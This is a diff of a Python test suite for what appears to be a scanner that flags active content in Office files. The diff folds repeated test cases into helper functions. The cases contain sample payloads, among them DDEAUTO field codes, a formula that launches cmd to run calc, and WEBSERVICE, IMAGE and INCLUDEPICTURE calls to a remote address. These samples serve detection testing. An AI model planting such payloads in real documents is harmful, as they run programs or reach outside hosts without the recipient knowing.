@@ -85,10 +85,10 @@ def paragraph(inner: str, part: str = DOCUMENT) -> bytes:
 
 
 def related(data: bytes, kind: str, target: str, of: str, *, external: bool = True, base: str = OFFICE) -> bytes:
-    """``data`` with one more relationship of the part ``of``, whose id is rIdX."""
+    """``data`` with one more relationship of the part ``of``, or of the package where that is empty; its id is rIdX."""
     contents = parts(data)
     folder, _, name = of.rpartition("/")
-    listing = f"{folder}/_rels/{name}.rels"
+    listing = f"{folder}/_rels/{name}.rels".lstrip("/")
     mode = ' TargetMode="External"' if external else ""
     row = f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{target}"{mode}/>'
     empty = f'<Relationships xmlns="{_RELATIONS}"></Relationships>'
@@ -131,6 +131,16 @@ def with_formula(formula: str) -> bytes:
 
 def with_sheet(change: Callable[[Any], None]) -> bytes:
     return workbook([["名单"]], change)
+
+
+def by_code(name: str, called: str, *pieces: str) -> Case:
+    """A complex field that acts, whose code is split into these pieces."""
+    return Case(name, lambda: paragraph(complex_field(*pieces)), ACTS, called, "".join(pieces))
+
+
+def by_formula(name: str, formula: str, effect: Effect, called: str) -> Case:
+    """A cell with this formula."""
+    return Case(name, lambda: with_formula(formula), effect, called, formula)
 
 
 def picture(attributes: str) -> str:
@@ -293,13 +303,7 @@ WORD_CASES = (
         "控件",
     ),
     Case("control without a relationship", lambda: paragraph("<w:r><w:control/></w:r>"), ACTS, "控件"),
-    Case(
-        "field of a control",
-        lambda: paragraph(complex_field("CONTROL Forms.TextBox.1 \\s")),
-        ACTS,
-        "控件",
-        "CONTROL Forms.TextBox.1 \\s",
-    ),
+    by_code("field of a control", "控件", "CONTROL Forms.TextBox.1 \\s"),
     Case(
         "web add-in",
         lambda: holding(
@@ -351,28 +355,10 @@ WORD_CASES = (
         _FILE,
         "D:\\a.docx",
     ),
-    Case(
-        "file link of a field",
-        lambda: paragraph(complex_field('HYPERLINK "file:///C:/a.docx"')),
-        ACTS,
-        _FILE,
-        'HYPERLINK "file:///C:/a.docx"',
-    ),
-    Case(
-        "share link of a field",
-        lambda: paragraph(complex_field(r'HYPERLINK \o "提示" "\\\\192.0.2.1\\a"')),
-        ACTS,
-        _FILE,
-        r'HYPERLINK \o "提示" "\\\\192.0.2.1\\a"',
-    ),
-    Case("DDEAUTO", lambda: paragraph(complex_field(_DDE)), ACTS, _CODE_DDE, _DDE),
-    Case(
-        "DDE cut over runs",
-        lambda: paragraph(complex_field("D", "D", "EAU", r'TO c:\\x "a"')),
-        ACTS,
-        _CODE_DDE,
-        r'DDEAUTO c:\\x "a"',
-    ),
+    by_code("file link of a field", _FILE, 'HYPERLINK "file:///C:/a.docx"'),
+    by_code("share link of a field", _FILE, r'HYPERLINK \o "提示" "\\\\192.0.2.1\\a"'),
+    by_code("DDEAUTO", _CODE_DDE, _DDE),
+    by_code("DDE cut over runs", _CODE_DDE, "D", "D", "EAU", r'TO c:\\x "a"'),
     Case("DDE in small letters", lambda: paragraph(simple_field("dde x y")), ACTS, _CODE_DDE, "dde x y"),
     Case(
         "DDE over paragraphs",
@@ -420,20 +406,8 @@ WORD_CASES = (
         _CODE_FIELD,
         'INCLUDETEXT "C:/a.docx"',
     ),
-    Case(
-        "INCLUDEPICTURE",
-        lambda: paragraph(complex_field('INCLUDEPICTURE "http://192.0.2.1/a.png" \\d')),
-        ACTS,
-        _CODE_FIELD,
-        'INCLUDEPICTURE "http://192.0.2.1/a.png" \\d',
-    ),
-    Case(
-        "LINK",
-        lambda: paragraph(complex_field('LINK Excel.Sheet.12 "C:\\\\a.xlsx" "A1" \\a')),
-        ACTS,
-        _CODE_FIELD,
-        'LINK Excel.Sheet.12 "C:\\\\a.xlsx" "A1" \\a',
-    ),
+    by_code("INCLUDEPICTURE", _CODE_FIELD, 'INCLUDEPICTURE "http://192.0.2.1/a.png" \\d'),
+    by_code("LINK", _CODE_FIELD, 'LINK Excel.Sheet.12 "C:\\\\a.xlsx" "A1" \\a'),
     Case("RD", lambda: paragraph(simple_field("RD &quot;C:/a.docx&quot;")), ACTS, _CODE_FIELD, 'RD "C:/a.docx"'),
     Case(
         "MACROBUTTON",
@@ -504,13 +478,7 @@ WORD_CASES = (
 )
 
 SHEET_CASES = (
-    Case(
-        "web service",
-        lambda: with_formula('_xlfn.WEBSERVICE("http://192.0.2.1/")'),
-        REACHES,
-        "会访问外部的公式",
-        '_xlfn.WEBSERVICE("http://192.0.2.1/")',
-    ),
+    by_formula("web service", '_xlfn.WEBSERVICE("http://192.0.2.1/")', REACHES, "会访问外部的公式"),
     Case(
         "web service in a name",
         lambda: with_sheet(_named),
@@ -518,39 +486,13 @@ SHEET_CASES = (
         "会访问外部的公式",
         '_xlfn.WEBSERVICE("http://192.0.2.1/")',
     ),
-    Case(
-        "link by formula",
-        lambda: with_formula('HYPERLINK("http://192.0.2.1/"&A1,"看")'),
-        REACHES,
-        "会访问外部的公式",
-        'HYPERLINK("http://192.0.2.1/"&A1,"看")',
-    ),
-    Case(
-        "file link by formula",
-        lambda: with_formula('hyperlink("file:///C:/a.exe")'),
-        ACTS,
-        _FILE,
-        'hyperlink("file:///C:/a.exe")',
-    ),
-    Case(
-        "picture by formula",
-        lambda: with_formula('_xlfn.IMAGE("http://192.0.2.1/a.png")'),
-        REACHES,
-        "会访问外部的公式",
-        '_xlfn.IMAGE("http://192.0.2.1/a.png")',
-    ),
-    Case("program by formula", lambda: with_formula("cmd|'/c calc'!A0"), ACTS, _CODE_DDE, "cmd|'/c calc'!A0"),
-    Case(
-        "program by function", lambda: with_formula('DDE("soffice","a","b")'), ACTS, _CODE_DDE, 'DDE("soffice","a","b")'
-    ),
-    Case("real-time data", lambda: with_formula('RTD("x",,"y")'), ACTS, _CODE_DDE, 'RTD("x",,"y")'),
-    Case(
-        "other workbook by its path",
-        lambda: with_formula("'C:\\a\\[b.xlsx]Sheet1'!A1"),
-        REACHES,
-        "引用其他工作簿的链接",
-        "'C:\\a\\[b.xlsx]Sheet1'!A1",
-    ),
+    by_formula("link by formula", 'HYPERLINK("http://192.0.2.1/"&A1,"看")', REACHES, "会访问外部的公式"),
+    by_formula("file link by formula", 'hyperlink("file:///C:/a.exe")', ACTS, _FILE),
+    by_formula("picture by formula", '_xlfn.IMAGE("http://192.0.2.1/a.png")', REACHES, "会访问外部的公式"),
+    by_formula("program by formula", "cmd|'/c calc'!A0", ACTS, _CODE_DDE),
+    by_formula("program by function", 'DDE("soffice","a","b")', ACTS, _CODE_DDE),
+    by_formula("real-time data", 'RTD("x",,"y")', ACTS, _CODE_DDE),
+    by_formula("other workbook by its path", "'C:\\a\\[b.xlsx]Sheet1'!A1", REACHES, "引用其他工作簿的链接"),
     Case(
         "other workbook in a rule",
         lambda: with_sheet(_validated),
